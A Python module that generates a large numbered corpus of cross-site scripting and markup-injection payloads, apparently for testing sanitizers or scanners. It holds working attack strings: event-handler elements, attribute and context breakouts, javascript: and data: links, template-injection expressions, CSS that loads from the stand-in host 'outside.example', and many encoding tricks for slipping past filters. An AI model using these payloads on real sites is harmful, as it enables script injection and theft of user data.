"""Texts that would like to be more than text: markup, links, templates, styles, each with a number of its own.

Each one that is taken for markup, in whatever place it lands, calls `hit(number)`, asks the network for a name under
`OUTSIDE` or `/hit-…`, or leaves an element or attribute that the page never makes.
"""

from __future__ import annotations

import base64
import html
import itertools
from collections.abc import Iterator, Sequence
from urllib.parse import quote

OUTSIDE = "outside.example"
CALL = "hit(@)"
"""What a payload runs; `@` is its number."""

# Elements that do something by themselves, as soon as they are parsed or drawn.
_ALONE = (
    "<img src=/hit-@ onerror={0}>",
    "<img src=x:x onerror={0}>",
    '<img src="/hit-@" onerror="{0}">',
    "<img/src=/hit-@/onerror={0}>",
    "<img srcset=/hit-@ onerror={0}>",
    "<IMG SRC=/hit-@ ONERROR={0}>",
    "<image src=/hit-@ onerror={0}>",
    "<svg onload={0}>",
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<svg><script href=data:,{0} />",
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><animate attributeName=href values=javascript:{0} /><a id=x><text>x</text></a>",
    "<svg><set onbegin={0} attributeName=x dur=1s>",
    "<svg><image href=/hit-@ onerror={0}>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload={0}/>#x"/></svg>',
    "<svg><foreignObject><img src=/hit-@ onerror={0}></foreignObject></svg>",
    "<svg><style>*{{background:url(/hit-@)}}</style></svg>",
    "<svg><desc><![CDATA[</desc><script>{0}</script>]]></svg>",
    "<math><mtext><img src=/hit-@ onerror={0}></mtext></math>",
    "<math><maction actiontype=statusline href=javascript:{0}>x</maction></math>",
    "<math><mi//xlink:href='data:x,<script>{0}</script>'>",
    "<script>{0}</script>",
    "<script src=//outside.example/@></script>",
    "<script type=module>{0}</script>",
    "<script src=data:text/javascript,{0}></script>",
    "<SCRIPT>{0}</SCRIPT>",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<script\t>{0}</script\n>",
    "<iframe src=javascript:{0}></iframe>",
    "<iframe srcdoc='<script>parent.{0}</script>'></iframe>",
    "<iframe onload={0}></iframe>",
    "<object data=javascript:{0}></object>",
    "<object data=//outside.example/@ onerror={0}></object>",
    "<embed src=javascript:{0}>",
    "<embed src=//outside.example/@>",
    "<video src=/hit-@ onerror={0}></video>",
    "<video><source onerror={0} src=/hit-@></video>",
    "<video poster=/hit-@ onloadstart={0} src=x></video>",
    "<audio src=/hit-@ onerror={0}></audio>",
    "<audio src onloadstart={0}>",
    "<input autofocus onfocus={0}>",
    "<input type=image src=/hit-@ onerror={0}>",
    "<select autofocus onfocus={0}></select>",
    "<textarea autofocus onfocus={0}></textarea>",
    "<button autofocus onfocus={0}>x</button>",
    "<a autofocus tabindex=0 onfocus={0}>x</a>",
    "<details open ontoggle={0}>x</details>",
    "<body onload={0}>",
    "<body background=/hit-@>",
    "<frameset onload={0}>",
    "<marquee onstart={0}>x</marquee>",
    "<style onload={0}></style>",
    "<style>@import '//outside.example/@';</style>",
    "<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={0}>x</b>",
    "<style>*{{background:url(//outside.example/@)}}</style>",
    "<link rel=stylesheet href=//outside.example/@ onerror={0}>",
    "<link rel=stylesheet href=data:,*{{}} onload={0}>",
    "<link rel=prefetch href=//outside.example/@>",
    "<link rel=preconnect href=//outside.example>",
    "<link rel=import href=data:text/html,<script>{0}</script>>",
    "<base href=//outside.example/@/>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<meta http-equiv=refresh content='0;url=//outside.example/@'>",
    "<form action=javascript:{0}><button autofocus onfocus={0}>x</button></form>",
    "<form><button formaction=javascript:{0} autofocus onfocus={0}>x</button></form>",
    "<isindex type=image src=/hit-@ onerror={0}>",
    "<table background=/hit-@><tr><td>x</td></tr></table>",
    "<b style=background:url(/hit-@)>x</b>",
    "<template shadowrootmode=open><img src=/hit-@ onerror={0}></template>",
    "<noscript><p title='</noscript><img src=/hit-@ onerror={0}>'>",
    "<x-y onclick={0} tabindex=1 id=x autofocus onfocus={0}>x</x-y>",
    "<dialog open onclose={0}><form method=dialog><button autofocus>x</button></form></dialog>",
    "<portal src=//outside.example/@ onload={0}>",
    "<xss popover id=p onbeforetoggle={0}>x</xss><button popovertarget=p>x</button>",
    "<a href=javascript:{0}>x</a>",
    "<a href=//outside.example/@ ping=//outside.example/@>x</a>",
    "<keygen autofocus onfocus={0}>",
    "<object><param name=x value=x></object><img src=/hit-@ onerror={0}>",
    "<?xml-stylesheet href='javascript:{0}'?><img src=/hit-@ onerror={0}>",
    "<![CDATA[<img src=/hit-@ onerror={0}>]]>",
    "<!--><img src=/hit-@ onerror={0}>-->",
    "<!--[if IE]><script>{0}</script><![endif]-->",
)
# Handlers, each on an element of another kind.
# fmt: off
_EVENTS = (
    "abort", "animationend", "animationiteration", "animationstart", "auxclick", "beforecopy", "beforecut",
    "beforeinput", "beforematch", "beforepaste", "beforetoggle", "blur", "canplay", "change", "click", "close",
    "contextmenu", "copy", "cut", "dblclick", "drag", "dragend", "dragenter", "dragleave", "dragover", "dragstart",
    "drop", "durationchange", "error", "focus", "focusin", "focusout", "formdata", "fullscreenchange",
    "gotpointercapture", "input", "invalid", "keydown", "keypress", "keyup", "load", "loadeddata", "loadedmetadata",
    "loadstart", "lostpointercapture", "mousedown", "mouseenter", "mouseleave", "mousemove", "mouseout", "mouseover",
    "mouseup", "mousewheel", "paste", "pause", "play", "playing", "pointercancel", "pointerdown", "pointerenter",
    "pointerleave", "pointermove", "pointerout", "pointerover", "pointerrawupdate", "pointerup", "progress",
    "ratechange", "reset", "resize", "scroll", "scrollend", "scrollsnapchange", "search", "securitypolicyviolation",
    "seeked", "seeking", "select", "selectionchange", "selectstart", "slotchange", "stalled", "submit", "suspend",
    "timeupdate", "toggle", "touchstart", "transitioncancel", "transitionend", "transitionrun", "transitionstart",
    "volumechange", "waiting", "webkitanimationstart", "wheel",
)
# fmt: on
# fmt: off
_TAGS = (
    "a", "b", "div", "span", "p", "svg", "math", "button", "input", "select", "video", "audio", "details", "body",
    "img", "iframe", "object", "form", "x-y", "mark",
)
# fmt: on
# Out of wherever a text was put: an attribute, a comment, raw text, a script, a style, a list, a table.
_BREAKOUTS = (
    '">',
    "'>",
    "`>",
    "-->",
    "--!>",
    "]]>",
    "</script>",
    "</style>",
    "</textarea>",
    "</title>",
    "</noscript>",
    "</template>",
    "</xmp>",
    "</iframe>",
    "</noembed>",
    "</noframes>",
    "</plaintext>",
    "</svg>",
    "</math>",
    "</select>",
    "</option></select>",
    "</table>",
    "</button>",
    "</a>",
    "</pre>",
    "</code>",
    "</li></ul>",
    "</p></div></main>",
    '"></textarea></style></script>',
    "\"'`><!--",
    '\\">',
    "\r\n\r\n",
    "\x00",
)
_ATTRIBUTES = (
    '" onmouseover="{0}',
    "' onmouseover='{0}",
    "` onmouseover=`{0}",
    " onmouseover={0} ",
    '" autofocus onfocus="{0}',
    "' autofocus onfocus='{0}",
    '" style="animation-name:k" onanimationstart="{0}',
    '" style="background:url(//outside.example/@)',
    '" src="/hit-@" onerror="{0}',
    '" href="javascript:{0}',
    '" srcdoc="<script>parent.{0}</script>',
    '"onpointerenter="{0}',
    '"/onpointerenter="{0}',
    '"\nonpointerenter\n=\n"{0}',
    '" data-x="`${{{0}}}`',
    '\\" onmouseover=\\"{0}',
    "&quot; onmouseover=&quot;{0}",
    "x onload={0}",
    'glyph-x" onload="{0}',
)
_SCRIPTS = (
    "'-{0}-'",
    '"-{0}-"',
    "';{0};'",
    '";{0};"',
    "\\';{0}//",
    '\\";{0}//',
    "`+{0}+`",
    "${{{0}}}",
    "`${{{0}}}`",
    "{{{{{0}}}}}",
    "{{%{0}%}}",
    "<%={0}%>",
    "#{{{0}}}",
    "[[{0}]]",
    "{{{{constructor.constructor('{0}')()}}}}",
    "{{{{$on.constructor('{0}')()}}}}",
    "{{{{self.__init__.__globals__}}}}{{{{7*7}}}}",
    "{{$where:'{0}'}}",
    "*/{0}/*",
    "\n{0}\n",
    "\u2028{0}\u2029",
    "]}});{0}//",
    "{0}",
    "[]['constructor']['constructor']('{0}')()",
    "Function('{0}')()",
    "eval('{0}')",
    "setTimeout('{0}')",
    "import('data:text/javascript,{0}')",
    "constructor",
    "__proto__",
    "prototype.hit",
    "toString",
    "</script><script>{0}//",
    "<!--<script>{0}//",
)
_LINKS = (
    "javascript:{0}",
    "JaVaScRiPt:{0}",
    " javascript:{0}",
    "\x01javascript:{0}",
    "java\tscript:{0}",
    "java\nscript:{0}",
    "java\rscript:{0}",
    "javascript&colon;{0}",
    "javascript&#58;{0}",
    "javascript&#x3a;{0}",
    "&#106;avascript:{0}",
    "javascript://%0a{0}",
    "javascript://outside.example/%0a{0}",
    "javascript:void {0}",
    "javascript:/*--></title></style></textarea></script><svg onload={0}>*/",
    "feed:javascript:{0}",
    "view-source:javascript:{0}",
    "jar:javascript:{0}",
    "vbscript:{0}",
    "livescript:{0}",
    "data:text/html,<script>{0}</script>",
    "data:text/html;base64,{1}",
    "data:text/javascript,{0}",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{0}'/>",
    "data:image/svg+xml;base64,{1}",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>{0}</script>",
    "data:image/png,x' onerror='{0}",
    'data:image/png;base64,AAAA" onerror="{0}',
    "blob:null/{0}",
    "filesystem:http://outside.example/{0}",
    "//outside.example/@",
    "http://outside.example/@",
    "https://outside.example/@",
    "ws://outside.example/@",
    "ftp://outside.example/@",
    "\\\\outside.example\\@",
    "/\\outside.example/@",
    "/hit-@",
    "../../hit-@",
    "?hit-@",
    "#hit-@",
    "http://user:word@outside.example/@",
    "http://outside.example\u3002/@",
    "[x](javascript:{0})",
    "[x](//outside.example/@)",
    "![x](//outside.example/@)",
    '![x](/hit-@ "onerror={0}")',
    "<javascript:{0}>",
    "<http://outside.example/@>",
    "[x]: //outside.example/@",
)
_STYLES = (
    "background:url(//outside.example/@)",
    "}}*{{background:url(//outside.example/@)}}",
    "@import url(//outside.example/@);",
    "x:expression({0})",
    "-moz-binding:url(//outside.example/@)",
    "behavior:url(//outside.example/@)",
    "url(javascript:{0})",
    "var(--x);background:url(/hit-@)",
    "red;background:url(/hit-@)",
    "\\75rl(/hit-@)",
    "</style><img src=/hit-@ onerror={0}>",
    "url('//outside.example/@')",
    "image-set('//outside.example/@' 1x)",
    "@font-face{{font-family:x;src:url(//outside.example/@)}}",
    "list-style:url(/hit-@)",
    "content:url(/hit-@)",
    "@namespace url(/hit-@);",
    "input[value^=a]{{background:url(/hit-@)}}",
)
_BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
_IMG = "<img src=/hit-@ onerror={0}>"


def _encoded(text: str) -> Iterator[str]:
    """The same text, in every spelling that something could undo."""
    yield quote(text, safe="")
    yield quote(quote(text, safe=""), safe="")
    yield html.escape(text)
    yield html.escape(html.escape(text))
    yield "".join(f"&#{ord(letter)};" for letter in text)
    yield "".join(f"&#x{ord(letter):x}" for letter in text)
    yield "".join(f"&#{ord(letter):07}" for letter in text)
    yield "".join(f"\\u{ord(letter):04x}" for letter in text)
    yield "".join(f"\\x{ord(letter):02x}" for letter in text)
    yield "".join(f"\\{ord(letter):o}" for letter in text)
    yield "".join(f"\\{ord(letter):x} " for letter in text)
    yield base64.b64encode(text.encode()).decode()
    yield text.replace("<", "\uff1c").replace(">", "\uff1e")
    yield text.replace("<", "\ufe64").replace(">", "\ufe65")
    yield text.replace("<", "\u2039").replace(">", "\u203a")
    yield text.replace("<", "\u00bc").replace(">", "\u00be")
    yield text.replace("<", "+ADw-").replace(">", "+AD4-")
    yield text.replace(" ", "/")
    yield text.replace(" ", "\t")
    yield text.replace(" ", "\x0c")
    yield text.replace(" ", "\u00a0")
    yield text.replace("<", "<\x00")
    yield text.replace("<img", "<i\x00mg")
    yield text.replace("<img", "<\u0131mg").upper()
    yield text.replace("=", "\u200b=")
    yield text.replace("s", "\u017f").replace("k", "\u212a")
    yield "\ufeff" + text
    yield "\U000e0001" + text + "\U000e007f"
    yield text.encode("utf-16-le").decode("latin-1")
    yield text.translate({ord("<"): "&lt"})
    yield "%u003c" + text[1:]
    yield "\x1b]8;;" + text + "\x07x\x1b]8;;\x07"
    for mark in _BIDI:
        yield mark + text
    yield _BIDI + text + _BIDI
    yield "e" + "\u0301" * 300 + text
    yield "\u202e" + text[::-1]
    for mark in "\x00\x08\x0b\x0c\x1a\x7f\x80\x85\u2028\u2029\ufffe\uffff":
        yield mark.join(("", text, ""))


def _written() -> Iterator[str]:
    picture = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='top.hit(-1)'/>").decode()
    fill = (CALL, picture)
    for one in itertools.chain(_ALONE, _ATTRIBUTES, _SCRIPTS, _LINKS, _STYLES):
        yield one.format(*fill)
    for event, tag in zip(_EVENTS, itertools.cycle(_TAGS), strict=False):
        yield f"<{tag} on{event}={CALL} tabindex=1>x</{tag}>"
    for out in _BREAKOUTS:
        for one in (_ALONE[0], _ALONE[7], _ALONE[22], _ALONE[31], _ALONE[40]):
            yield out + one.format(*fill)
    yield from _encoded(_IMG.format(*fill))
    # Very long: before, within and around what is meant.
    for size in (500, 5_000):
        yield "A" * size + _IMG.format(*fill)
        yield f"<img title={'x' * size} src=/hit-@ onerror={CALL}>"
        yield "<b>" * (size // 10) + _IMG.format(*fill)
        yield '"' * size + _IMG.format(*fill)
    yield "\u202e" * 1_000 + _IMG.format(*fill)


PAYLOADS: tuple[str, ...] = tuple(text.replace("@", str(number)) for number, text in enumerate(_written()))
SAMPLE = PAYLOADS[::17]
"""Some of every kind."""

# Out of whatever the text before may have opened, so that the next one counts as well.
RESET = "\n\"'`--></script></style></textarea></title></svg>\n"


def packed(size: int, texts: Sequence[str] = PAYLOADS) -> list[list[str]]:
    """All of them, in groups of this many."""
    return [list(texts[at : at + size]) for at in range(0, len(texts), size)]


def together(group: Sequence[str]) -> str:
    """One text of several, in which each counts."""
    return RESET.join(group)
